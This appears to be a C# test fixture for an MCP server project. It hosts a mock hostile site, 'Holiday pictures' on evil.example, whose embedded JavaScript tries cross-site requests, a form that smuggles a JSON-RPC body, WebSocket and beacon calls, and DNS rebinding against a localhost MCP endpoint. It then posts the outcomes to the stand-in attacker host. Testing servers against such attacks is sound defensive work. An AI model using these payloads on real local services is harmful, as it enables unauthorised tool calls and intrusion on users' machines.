using System.Collections.Concurrent;
using System.Text.Json.Nodes;
using Microsoft.AspNetCore.Builder;
using Microsoft.AspNetCore.Hosting;
using Microsoft.AspNetCore.Hosting.Server;
using Microsoft.AspNetCore.Hosting.Server.Features;
using Microsoft.AspNetCore.Http;
using Microsoft.Extensions.DependencyInjection;
using Microsoft.Extensions.Logging;

namespace SyncMcp.Tests.Testing;

/// <summary>
/// Somebody's web site, and the net that leads to it: a proxy that knows every name. Its page tries to reach a server of the computer that the browser runs
/// on; the name <c>rebind.example</c> leads to the site first and to that server afterwards, as with DNS rebinding.
/// </summary>
internal sealed class HostileSite : IAsyncDisposable
{
    /// <summary>Where the page is.</summary>
    public static readonly Uri Page = new("http://evil.example/page");

    private readonly WebApplication app;
    private readonly Uri target;
    private readonly HttpClient http = new(new SocketsHttpHandler { UseProxy = false, AllowAutoRedirect = false });
    private readonly TaskCompletionSource<JsonObject> done = new();

    private HostileSite(WebApplication app, Uri target) => (this.app, this.target) = (app, target);

    public Uri Proxy => new(app.Services.GetRequiredService<IServer>().Features.Get<IServerAddressesFeature>()!.Addresses.First());

    /// <summary>What the page says of each attempt.</summary>
    public Task<JsonObject> Done => done.Task;

    /// <summary>Answers of the server to what came under the name that was rebound.</summary>
    public ConcurrentQueue<int> Rebound { get; } = new();

    public static async Task<HostileSite> StartAsync(Uri target)
    {
        var builder = WebApplication.CreateSlimBuilder();
        builder.Logging.ClearProviders();
        builder.WebHost.UseUrls("http://127.0.0.1:0");
        var site = new HostileSite(builder.Build(), target);
        site.app.Run(site.AnswerAsync);
        await site.app.StartAsync();
        return site;
    }

    public async ValueTask DisposeAsync()
    {
        http.Dispose();
        await app.DisposeAsync();
    }

    private async Task AnswerAsync(HttpContext context)
    {
        var path = context.Request.Path.Value;
        if (path == "/page")
        {
            context.Response.ContentType = "text/html";
            await context.Response.WriteAsync(context.Request.Host.Host == "rebind.example" ? Rebinding : Attacks(target));
        }
        else if (path == "/done")
        {
            context.Response.Headers.AccessControlAllowOrigin = "*";
            done.TrySetResult(JsonNode.Parse(await new StreamReader(context.Request.Body).ReadToEndAsync())!.AsObject());
        }
        else if (context.Request.Host.Host == "rebind.example")
        {
            await ForwardAsync(context);
        }
        else
        {
            context.Response.StatusCode = StatusCodes.Status404NotFound;
        }
    }

    // The name leads to the server of the computer now; what the browser sends arrives as it is.
    private async Task ForwardAsync(HttpContext context)
    {
        using var request = new HttpRequestMessage(new(context.Request.Method), new Uri(target, context.Request.Path.Value)) { Content = new StreamContent(context.Request.Body) };
        foreach (var (name, values) in context.Request.Headers)
        {
            if (!request.Headers.TryAddWithoutValidation(name, values.ToArray()))
                request.Content.Headers.TryAddWithoutValidation(name, values.ToArray());
        }

        request.Headers.Host = context.Request.Host.Value;
        using var answer = await http.SendAsync(request, HttpCompletionOption.ResponseHeadersRead);
        if (target.AbsolutePath == context.Request.Path.Value)
            Rebound.Enqueue((int)answer.StatusCode);
        context.Response.StatusCode = (int)answer.StatusCode;
        context.Response.ContentType = answer.Content.Headers.ContentType?.ToString();
        await context.Response.WriteAsync(await answer.Content.ReadAsStringAsync());
    }

    private const string Call = """{"jsonrpc":"2.0","id":1,"method":"tools/call","params":{"name":"list_workspaces","arguments":{}}}""";

    private static string Attacks(Uri target) => $$"""
        <!doctype html><title>Holiday pictures</title>
        <iframe name="sink"></iframe>
        <iframe src="http://rebind.example/page"></iframe>
        <script>
        const call = '{{Call}}', said = {};
        const json = { 'Content-Type': 'application/json', 'Accept': 'application/json, text/event-stream' };
        const attempt = async (name, work) => {
          try { said[name] = String(await Promise.race([work(), new Promise(r => setTimeout(() => r('nothing'), 3000))])); } catch (e) { said[name] = 'refused: ' + e.message; }
        };
        const rebound = new Promise(r => addEventListener('message', e => r(e.data)));
        (async () => {
          for (const host of ['127.0.0.1', 'localhost', '[::1]']) {
            const url = `http://${host}:{{target.Port}}/mcp`;
            await attempt('json ' + host, async () => { const a = await fetch(url, { method: 'POST', headers: json, body: call }); return a.status + ' ' + await a.text(); });
            await attempt('text ' + host, async () => (await fetch(url, { method: 'POST', mode: 'no-cors', headers: { 'Content-Type': 'text/plain' }, body: call })).type);
            await attempt('typed blob ' + host, async () => (await fetch(url, { method: 'POST', mode: 'no-cors', body: new Blob([call], { type: 'application/json' }) })).type);
            await attempt('with credentials ' + host, async () => (await fetch(url, { method: 'POST', mode: 'no-cors', credentials: 'include', body: call })).type);
            await attempt('beacon ' + host, async () => navigator.sendBeacon(url, new Blob([call], { type: 'text/plain' })));
            await attempt('stream ' + host, () => new Promise((r, x) => { const s = new EventSource(url); s.onopen = () => r('open'); s.onerror = () => x(new Error('closed')); }));
            await attempt('socket ' + host, () => new Promise((r, x) => { const s = new WebSocket(url.replace('http', 'ws')); s.onopen = () => r('open'); s.onerror = () => x(new Error('closed')); }));
            await attempt('form ' + host, async () => {
              const f = document.createElement('form'); f.action = url; f.method = 'POST'; f.enctype = 'text/plain'; f.target = 'sink';
              const i = document.createElement('input'); i.name = call.slice(0, -1) + ',"x":"'; i.value = '"}'; f.append(i); document.body.append(f); f.submit();
              await new Promise(r => setTimeout(r, 200)); return 'sent';
            });
            await attempt('image ' + host, () => new Promise((r, x) => { const i = new Image(); i.onload = () => r('loaded'); i.onerror = () => x(new Error('closed')); i.src = url; }));
          }
          await attempt('rebound', () => rebound);
          await fetch('http://evil.example/done', { method: 'POST', body: JSON.stringify(said) });
        })();
        </script>
        """;

    private const string Rebinding = $$"""
        <!doctype html><script>
        (async () => {
          const said = [];
          for (const [name, options] of Object.entries({
            'post': { method: 'POST', headers: { 'Content-Type': 'application/json', 'Accept': 'application/json, text/event-stream' }, body: '{{Call}}' },
            'get': { headers: { 'Accept': 'text/event-stream' } }, 'delete': { method: 'DELETE' } })) {
            try { const a = await fetch('/mcp', options); said.push(name + ' ' + a.status); } catch (e) { said.push(name + ' ' + e.message); }
          }
          parent.postMessage(said.join(', '), '*');
        })();
        </script>
        """;
}
